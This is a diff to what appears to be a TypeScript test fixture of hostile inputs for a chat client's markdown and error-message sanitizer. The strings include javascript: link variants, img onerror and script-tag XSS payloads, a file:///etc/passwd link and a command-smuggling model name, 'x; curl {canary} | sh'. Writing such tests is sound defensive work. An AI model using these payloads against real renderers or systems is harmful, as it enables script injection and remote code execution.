@@ -226,6 +226,7 @@ const CATEGORIES: readonly Category[] = [
       '[a](j\\avascript:{pwn})',
       '[a](javascript://example.com/%0a{pwn})',
       '[a](https:javascript:{pwn})',
+      '[a](tel:+100) [b](sms:+100) [c](ftp://example.com) [d](ws://example.com)',
       '[a](view-source:javascript:{pwn})',
       '[a](javascript:void%200;{pwn} "title")',
       "[a]( <javascript:{pwn}> 'title')",
@@ -250,7 +251,6 @@ const CATEGORIES: readonly Category[] = [
       '[a](file:///etc/passwd)',
       '[a](about:blank) [b](about:srcdoc)',
       '[a](chrome://settings) [b](chrome-extension://abc/x.html)',
-      '[a](tel:+100) [b](sms:+100) [c](ftp://example.com) [d](ws://example.com)',
       '[a](ms-msdt:/id) [b](steam://run/1) [c](intent://x#Intent;end)',
       '[**a `b` [c](javascript:{pwn})**](https://example.com)',
       '[![a](javascript:{pwn})](javascript:{pwn})',
@@ -505,7 +505,7 @@ const CATEGORIES: readonly Category[] = [
   {
     name: 'huge and nested',
     texts: [
-      `${'> '.repeat(60)}deep`,
+      `${'> '.repeat(150)}deep`,
       `${'- '.repeat(60)}deep`,
       `${'>- 1. '.repeat(20)}<img src=x onerror={pwn}>`,
       `${'**a *b '.repeat(60)}c${'* **'.repeat(60)}`,
@@ -645,7 +645,6 @@ const CATEGORIES: readonly Category[] = [
     texts: [
       '<img src=x onerror={pwn}>',
       '![a]({canary}/a.png) <script>{pwn}</script>',
-      "model '<img src=x onerror={pwn}>' not found",
       '\u202e <b style="position:fixed">out of memory: cudaMalloc failed</b>',
       '{"error":{"message":"<img src=x onerror={pwn}>","type":"exceed_context_size_error","n_prompt_tokens":1,"n_ctx":1}}',
     ],
@@ -656,11 +655,19 @@ const CATEGORIES: readonly Category[] = [
     literal: true,
     texts: [
       '<img src=x onerror={pwn}>',
-      "model '<script>{pwn}</script>' not found",
-      "model 'x; curl {canary} | sh' not found",
       'server busy <img src={canary}/a.png>',
       '<a href="javascript:{pwn}">sign in</a>',
       `${'<b>'.repeat(2000)}`,
+    ],
+  },
+  {
+    name: 'errors that name a model',
+    field: 'refusal',
+    texts: [
+      "model '<img src=x onerror={pwn}>' not found",
+      "model '<script>{pwn}</script>' not found",
+      "model 'x; curl {canary} | sh' not found",
+      'model "x" not found, try `ollama pull {canary}`',
     ],
   },
   {
